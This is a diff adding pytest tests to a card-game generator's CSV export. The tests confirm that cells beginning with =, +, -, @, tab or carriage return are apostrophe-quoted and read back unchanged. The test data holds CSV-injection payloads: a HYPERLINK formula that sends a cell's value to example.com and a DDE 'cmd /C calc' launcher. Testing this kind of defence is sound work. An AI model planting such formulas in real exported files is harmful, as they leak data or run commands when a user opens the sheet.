@@ -261,3 +261,49 @@ def test_export_into_a_read_only_folder_is_a_located_output_error(tmp_path, monk
     assert exchange.export_catalog(source, "ru", "po", tmp_path / "ro", problems, screenshots=False) is None
     assert [str(problem).splitlines()[0] for problem in problems.errors] == [
         f"{tmp_path}/ro/g.ru.po: cannot write here: permission denied (or a read-only file system)"]
+
+
+# ------------------------------------------------------------- 8. CSV export: formulas written as text
+
+HOSTILE_NOTES = ['=HYPERLINK("http://example.com/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3",
+                 "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "'=1+1", "''@x", "'plain", "plain", "a=b"]
+
+
+def test_csv_export_writes_no_formula_and_reads_back_the_same_text(tmp_path):
+    """`pnp data export --to x.csv` wrote =HYPERLINK(…), +cmd|…, -…, @… as they were: a spreadsheet
+    program runs them (OWASP CSV injection). Now each starts with an apostrophe (Excel and LibreOffice
+    show it as text), and `cards_from:` reading the file gives every card its original text back."""
+    from generator.content.game import load_game
+    from generator.errors import Problems
+    from tests.test_content_errors import CARD_TEMPLATE, CARDS
+    template = CARD_TEMPLATE + '  note: {kind: text, literal: "@note", x: 5, y: 72, width: 53, height: 8, style: body}\n'
+    cards = "".join(f"      - id: c{index}\n        count: 1\n        fields: {{name: cards.star, art: art/star.svg, "
+                    f"note: {json.dumps(note)}}}\n" for index, note in enumerate(HOSTILE_NOTES))
+    game = make_game(tmp_path, {"cards.yaml": CARDS[:CARDS.index("      - id: star")] + cards,
+                                "templates/card.yaml": template})
+    target = tmp_path / "deck.csv"
+    run_pnp("data", "export", str(game), "cards", "--to", str(target)).assert_clean(0)
+    import csv
+    rows = list(csv.reader(target.read_text(encoding="utf-8-sig").splitlines()))
+    notes = [row[rows[0].index("note")] for row in rows[1:]]
+    dangerous = [note for note in notes if note.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert not dangerous, dangerous
+    assert notes[:6] == ["'" + note for note in HOSTILE_NOTES[:5]] + ["''=1+1"]
+    assert notes[6:] == ["'''@x", "'plain", "plain", "a=b"]
+    (game / "data").mkdir()
+    target.replace(game / "data" / "deck.csv")
+    (game / "cards.yaml").write_text(CARDS[:CARDS.index("    cards:")] + "    cards_from: data/deck.csv\n",
+                                     encoding="utf-8")
+    problems = Problems()
+    source = load_game(game, problems)
+    assert not problems.errors, [str(problem) for problem in problems.errors]
+    assert [card.fields["note"] for card in source.pieces["cards"].sets[0].items] == HOSTILE_NOTES
+
+
+@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@1", "\t=1", "\r=1", "'=1", "''+1", "'", "'x", "x=1", ""])
+def test_a_formula_start_is_quoted_and_unquoted_exactly(text):
+    """The rule the CSV export and `cards_from:` share: no quoted cell starts a formula, every text comes back
+    (a tab or carriage return first, which the deck's cells lose as surrounding space, included)."""
+    from generator.content.spreadsheet import FORMULA_STARTS, quoted_formula, unquoted_formula
+    assert not quoted_formula(text).startswith(FORMULA_STARTS)
+    assert unquoted_formula(quoted_formula(text)) == text
